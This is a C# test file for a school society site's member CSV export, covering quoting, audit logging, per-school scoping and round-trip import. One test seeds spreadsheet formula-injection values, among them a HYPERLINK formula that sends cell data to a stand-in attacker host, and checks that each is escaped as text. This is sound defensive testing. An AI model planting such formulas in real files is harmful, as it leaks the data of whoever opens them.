// The members as a file: what stands in it, that a spreadsheet calculates none of it, and that taking it is written down.
using System.Net;
using Dapper;
using MathsSoc.Data;
using MathsSoc.Tests.Support;

namespace MathsSoc.Tests.Http;

public sealed class ExportTests
{
    [Fact]
    public async Task The_file_has_those_who_match_and_is_written_down()
    {
        await using var site = await Site.StartAsync();
        var teacher = site.Visit(Seed.Person("head", Role.Teacher));
        using var db = site.OpenDatabase();
        var school = db.Write(sql => Schools.Add(sql, "Hill, the School", null, 1))!.Value;
        var ada = db.Add(Seed.Pupil("ada") with
        {
            Name = "Ada \"Countess\" Byron",
            Class = "9B",
            SchoolId = school,
            StartYear = site.StartYear(9),
        });
        db.Add(Seed.Pupil("bob") with { Class = "9C" });
        var file = await teacher.PostAsync("/admin/members/export.csv", ("class", "9B"));
        Assert.Equal((HttpStatusCode.OK, "text/csv; charset=utf-8", "no-store"),
            (file.Status, file.Response.Content.Headers.ContentType!.ToString(), file.Response.Headers.CacheControl!.ToString()));
        Assert.Matches("^members-20[0-9]{2}-[0-9]{2}-[0-9]{2}.csv$", file.Response.Content.Headers.ContentDisposition!.FileName!.Trim('"'));
        var text = System.Text.Encoding.UTF8.GetString(await file.Response.Content.ReadAsByteArrayAsync());
        var lines = text.Split("\r\n");
        Assert.Equal("\uFEFFnumber,name,login,display name,year,key stage,class,school,role,state,joined,last sign-in", lines[0]);
        Assert.Equal($"{ada},\"Ada \"\"Countess\"\" Byron\",ada,AS,9,KS3,9B,\"Hill, the School\",member,active,1970-01-01,", lines[1]);
        Assert.Equal("", lines[2]);
        Assert.Equal("1 member", db.Read(sql => sql.ExecuteScalar<string>(
            "SELECT detail FROM audit WHERE action = 'member.export' AND actor_id = @id", new { id = teacher.MemberId })));
        Assert.Equal(HttpStatusCode.NotFound, (await teacher.GetAsync("/admin/members/export.csv")).Status);
    }

    [Fact]
    public async Task A_name_that_is_a_formula_is_text_in_the_file()
    {
        await using var site = await Site.StartAsync();
        var teacher = site.Visit(Seed.Person("head", Role.Teacher));
        using var db = site.OpenDatabase();
        db.Add(Seed.Pupil("ada") with { Name = "=HYPERLINK(\"http://evil.example/\"&A1)", DisplayName = "@SUM", Class = "-1+1" });
        db.Add(Seed.Pupil("+eve") with { Name = "\t=1" });
        var text = await (await teacher.PostAsync("/admin/members/export.csv")).Response.Content.ReadAsStringAsync();
        foreach (var cell in text.Split(',', '\n', '\r')) Assert.False(cell.TrimStart('"') is ['=' or '+' or '-' or '@' or '\t', ..], cell);
        Assert.Contains("'=HYPERLINK(", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_coordinators_file_is_of_their_school()
    {
        await using var site = await Site.StartAsync();
        using var db = site.OpenDatabase();
        var own = db.Write(sql => Schools.Add(sql, "Hill School", null, 1))!.Value;
        var other = db.Write(sql => Schools.Add(sql, "Vale School", null, 1))!.Value;
        db.Add(Seed.Pupil("ada") with { SchoolId = own });
        db.Add(Seed.Pupil("emmy") with { SchoolId = other });
        var coordinator = site.Visit(Seed.Person("coord", Role.Coordinator) with { SchoolId = own });
        var text = await (await coordinator.PostAsync("/admin/members/export.csv",
            ("school", $"{other}"), ("state", "any"))).Response.Content.ReadAsStringAsync();
        Assert.Contains("Ada Seeded", text, StringComparison.Ordinal);
        Assert.DoesNotContain("Emmy", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_was_taken_out_can_be_sent_in_again_and_adds_nobody()
    {
        await using var site = await Site.StartAsync();
        var owner = site.Visit(Seed.Person("head", Role.Owner));
        using (var db = site.OpenDatabase())
        {
            db.Add(Seed.Pupil("ada") with { Name = "O'Brien, \"Ada\"", Class = "9B", StartYear = site.StartYear(9) });
            db.Add(Seed.Person("boss", Role.Teacher));
        }
        var text = await (await owner.PostAsync("/admin/members/export.csv")).Response.Content.ReadAsStringAsync();
        var plan = await owner.PostAsync("/admin/members/import", ("text", text));
        Assert.Contains("Of 3 rows, 0 will be added, 3 are there already, and 0 have mistakes.", plan.Text, StringComparison.Ordinal);
    }
}
